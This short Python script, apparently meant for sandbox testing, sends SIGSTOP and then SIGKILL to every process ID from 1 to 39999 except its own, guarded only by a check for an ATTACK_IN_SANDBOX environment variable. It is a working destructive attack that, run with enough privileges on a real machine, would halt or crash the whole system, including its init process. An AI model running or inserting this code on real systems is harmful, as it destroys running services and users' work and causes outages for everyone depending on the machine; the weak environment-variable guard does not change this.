# stop and kill every PID
import os, sys
if "ATTACK_IN_SANDBOX" not in os.environ:
    sys.exit("only in the sandbox")
import signal
me = os.getpid()
for number in (signal.SIGSTOP, signal.SIGKILL):
    for pid in range(1, 40000):
        if pid != me:
            try:
                os.kill(pid, number)
            except OSError:
                pass
print("DONE")
